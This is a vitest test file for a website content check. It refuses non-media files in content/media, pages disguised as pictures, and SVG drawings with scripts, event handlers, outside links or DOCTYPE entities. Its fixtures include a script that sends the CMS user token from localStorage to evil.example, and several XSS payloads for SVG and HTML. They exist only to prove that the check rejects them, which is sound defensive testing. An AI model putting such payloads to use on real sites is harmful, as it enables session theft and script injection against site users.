/**
 * content/media is published as it is at /media/ on the site's own origin, beside the content
 * manager: a content pull request may put pictures, videos, fonts and documents there, and nothing
 * a browser would run. Each attempt is refused by the content check with the file named.
 */
import fs from 'node:fs'
import path from 'node:path'
import sharp from 'sharp'
import { describe, expect, it } from 'vitest'
import { loadContent } from '../../lib/content'
import { svgProblems } from '../../lib/content/media'
import { contentWith, FIXTURE_SITE, problemsIn, runContentCheck } from './helpers'

/** The fixture content with binary or text files added under content/. */
function contentWithFiles(files: Record<string, string | Buffer>): string {
  const root = contentWith()
  for (const [rel, data] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true })
    fs.writeFileSync(path.join(root, rel), data)
  }
  return root
}

/** A real drawing of the fixture site. */
const fixtureDrawing = () => fs.readFileSync(path.join(FIXTURE_SITE, 'media/iso-27001-badge.svg'))
/** A small picture encoded by sharp in `format`. */
const picture = (format: 'png' | 'jpeg' | 'webp' | 'gif' | 'avif') =>
  sharp({ create: { width: 8, height: 8, channels: 3, background: '#1d4ed8' } })
    .toFormat(format)
    .toBuffer()

const NOT_MEDIA = (extension: string) =>
  `is not a picture, video, font or document the site publishes ("${extension}"): content/media takes only .png, .jpg, .jpeg, .gif, .webp, .avif, .svg, .mp4, .webm, .woff2, .pdf files; a page, a script or another kind of file cannot be published here`

describe('content/media takes only media', () => {
  it('an HTML page and its script are refused, each named', () => {
    const root = contentWithFiles({
      'media/evil.html': '<!doctype html><script src="/media/evil.js"></script>',
      'media/evil.js': 'fetch("https://evil.example/?" + localStorage.getItem("decap-cms-user"))',
    })
    expect(problemsIn(root)).toEqual([`content/media/evil.html: ${NOT_MEDIA('.html')}`, `content/media/evil.js: ${NOT_MEDIA('.js')}`])
  })

  for (const extension of ['htm', 'xhtml', 'xml', 'mjs', 'wasm', 'css', 'json', 'txt', 'xsl', 'swf', 'HTML']) {
    it(`a .${extension} file is refused`, () => {
      expect(problemsIn(contentWithFiles({ [`media/art/file.${extension}`]: 'x' }))).toEqual([`content/media/art/file.${extension}: ${NOT_MEDIA(`.${extension}`)}`])
    })
  }

  it('a file without an extension is refused', () => {
    expect(problemsIn(contentWithFiles({ 'media/_headers': '/*\n  X: y\n' }))[0]).toMatch(
      /^content\/media\/_headers: is not a picture, video, font or document the site publishes \(a name without an extension\)/,
    )
  })

  it('a page named as a picture is refused by its content', () => {
    const root = contentWithFiles({ 'media/photo.png': '<html><script>alert(1)</script></html>', 'media/doc.pdf': '<svg onload="alert(1)"/>' })
    expect(problemsIn(root)).toEqual([
      'content/media/doc.pdf: is named as a PDF document, but its content is not one: export it again from the program that made it (or give it the extension of what it really is; content/media takes only .png, .jpg, .jpeg, .gif, .webp, .avif, .svg, .mp4, .webm, .woff2, .pdf files)',
      'content/media/photo.png: is named as a PNG picture, but its content is not one: export it again from the program that made it (or give it the extension of what it really is; content/media takes only .png, .jpg, .jpeg, .gif, .webp, .avif, .svg, .mp4, .webm, .woff2, .pdf files)',
    ])
  })

  it('real pictures and documents of every accepted kind pass, in upper case too', async () => {
    const root = contentWithFiles({
      'media/a.png': await picture('png'),
      'media/b.JPG': await picture('jpeg'),
      'media/c.webp': await picture('webp'),
      'media/d.pdf': fs.readFileSync('tests/fixtures/links/clean/media/brochure.pdf'),
      'media/e.svg': fixtureDrawing(),
      'media/f.gif': await picture('gif'),
      'media/g.woff2': Buffer.concat([Buffer.from('wOF2'), Buffer.alloc(60)]),
      'media/h.webm': Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81]),
      'media/i.mp4': Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypmp42\0\0\0\0isommp42'), Buffer.alloc(16)]),
      'media/j.avif': await picture('avif'),
    })
    expect(() => loadContent({ root, includeDrafts: false })).not.toThrow()
  })

  it('an MP4 named .avif, and an AVIF named .mp4, are what they are', () => {
    const mp4 = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypmp42\0\0\0\0isommp42'), Buffer.alloc(16)])
    expect(problemsIn(contentWithFiles({ 'media/x.avif': mp4 }))[0]).toMatch(/^content\/media\/x\.avif: is named as an AVIF picture, but its content is not one/)
  })

  it('every file of the real content and of the fixture site passes', () => {
    for (const root of [path.resolve('content'), FIXTURE_SITE]) expect(() => loadContent({ root, includeDrafts: false })).not.toThrow()
  })

  it('npm run check:content refuses the page and its script, naming both', () => {
    const root = contentWithFiles({ 'media/evil.html': '<script src="/media/evil.js"></script>', 'media/evil.js': 'alert(1)' })
    const run = runContentCheck(root)
    expect(run.status).toBe(1)
    expect(run.stderr).toContain('content/media/evil.html: is not a picture, video, font or document the site publishes')
    expect(run.stderr).toContain('content/media/evil.js: is not a picture, video, font or document the site publishes')
  }, 150_000)
})

describe('an SVG drawing holds shapes and text only', () => {
  const svg = (inner: string, attributes = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${attributes}>${inner}</svg>`

  const refused: Array<[what: string, text: string, said: string]> = [
    ['a script', svg('<script>alert(1)</script>'), 'the element <script>'],
    ['a script from a file beside it', svg('<script href="helper.js"/>'), 'the element <script>'],
    ['a script in CDATA, upper case', svg('<SCRIPT><![CDATA[alert(1)]]></SCRIPT>'), 'the element <SCRIPT>'],
    ['HTML inside', svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="/"/></foreignObject>'), 'the element <foreignObject>'],
    ['an event attribute on the root', svg('<rect/>', ' onload="alert(1)"'), 'an event attribute (onload="…" on <svg>)'],
    ['an event attribute on a shape', svg('<circle r="1" onmouseover="alert(1)"/>'), 'an event attribute (onmouseover="…" on <circle>)'],
    ['a javascript: link', svg('<a href="javascript:alert(1)"><text>x</text></a>'), 'an address outside the drawing (href="javascript:alert(1)" on <a>)'],
    ['a link to another site', svg('<a xlink:href="https://evil.example/"><text>x</text></a>'), 'an address outside the drawing (xlink:href="https://evil.example/" on <a>)'],
    ['a picture from elsewhere', svg('<image href="https://evil.example/track.png"/>'), 'an address outside the drawing (href="https://evil.example/track.png" on <image>)'],
    ['a shape from another file', svg('<use href="/media/other.svg#shape"/>'), 'an address outside the drawing (href="/media/other.svg#shape" on <use>)'],
    [
      'an SVG picture written in',
      svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
      'an address outside the drawing (href="data:image/svg+xml;base64,PHN2Zy8+" on <image>)',
    ],
    ['a stylesheet import', svg('<style>@import url(https://evil.example/x.css);</style>'), 'a <style> that loads something (@import or url(…))'],
    ['a style fetching a picture', svg('<rect style="fill: url(https://evil.example/p.png)"/>'), 'a style that loads something (on <rect>)'],
    ['an animation to a javascript: link', svg('<a href="#x"><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'), 'an animation that changes href (<set>)'],
    ['an animated event', svg('<animate attributeName="onbegin" to="alert(1)"/>'), 'an animation that changes onbegin (<animate>)'],
    [
      'a DOCTYPE with entities',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaa">]>${svg('<text>&a;</text>')}`,
      'a DOCTYPE (it can declare entities that expand the file or read others)',
    ],
    ['a linked stylesheet', `<?xml-stylesheet href="https://evil.example/x.css"?>${svg('<rect/>')}`, 'a linked stylesheet (<?xml-stylesheet?>)'],
    ['an embedded object', svg('<embed src="/media/a.pdf"/>'), 'the element <embed>'],
  ]
  for (const [what, text, said] of refused) {
    it(`${what} is refused, and named`, () => {
      expect(svgProblems(text).join(', ')).toBe(said)
    })
  }

  it('the check names the file and every problem in it', () => {
    const root = contentWithFiles({ 'media/logos/evil.svg': svg('<script>alert(1)</script><circle onclick="x()"/>') })
    expect(problemsIn(root)).toEqual([
      'content/media/logos/evil.svg: is an SVG drawing with the element <script>, an event attribute (onclick="…" on <circle>): a drawing on the site holds shapes and text only; save it again without them (in Inkscape: Save As › Optimized SVG, or Plain SVG without scripts)',
    ])
  })

  it('gradients, clip paths, shapes used twice, embedded PNGs, titles and comments pass', () => {
    const text = `<?xml version="1.0" encoding="UTF-8"?>\n<!-- drawn by hand -->\n${svg(
      '<title>Logo</title><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient><clipPath id="c"><rect width="5" height="5"/></clipPath><circle id="dot" r="1"/></defs>' +
        '<style>.a { fill: url(#g); }</style><rect class="a" clip-path="url(#c)" style="fill: url(\'#g\')"/><use href="#dot"/><use xlink:href="#dot" x="3"/><image href="data:image/png;base64,iVBORw0KGgo="/><a href="#dot"><text>Dot</text></a>',
    )}`
    expect(svgProblems(text)).toEqual([])
    expect(() => loadContent({ root: contentWithFiles({ 'media/ok.svg': text }), includeDrafts: false })).not.toThrow()
  })

  it('a file named .svg that is not a drawing is refused', () => {
    expect(problemsIn(contentWithFiles({ 'media/x.svg': '<html><body><script>alert(1)</script></body></html>' }))[0]).toMatch(
      /^content\/media\/x\.svg: is named as an SVG drawing, but its content is not one/,
    )
  })
})

describe('what the check never reads is named, not skipped', () => {
  it('a hidden file anywhere in content/ is named', () => {
    const root = contentWithFiles({ 'media/.htaccess': 'AddType text/html .png\n', 'services/.draft.en.md': '---\ntitle: x\n---\n' })
    expect(problemsIn(root)).toEqual([
      'content/media/.htaccess: is hidden (its name starts with a dot), so the site never reads it and an editor never sees it: rename it without the dot if it is content, or delete it',
      'content/services/.draft.en.md: is hidden (its name starts with a dot), so the site never reads it and an editor never sees it: rename it without the dot if it is content, or delete it',
    ])
  })

  it('what an operating system leaves in a folder is not a mistake', () => {
    expect(() => loadContent({ root: contentWithFiles({ 'media/.DS_Store': Buffer.alloc(8), 'blog/Thumbs.db': Buffer.alloc(8) }), includeDrafts: false })).not.toThrow()
  })
})
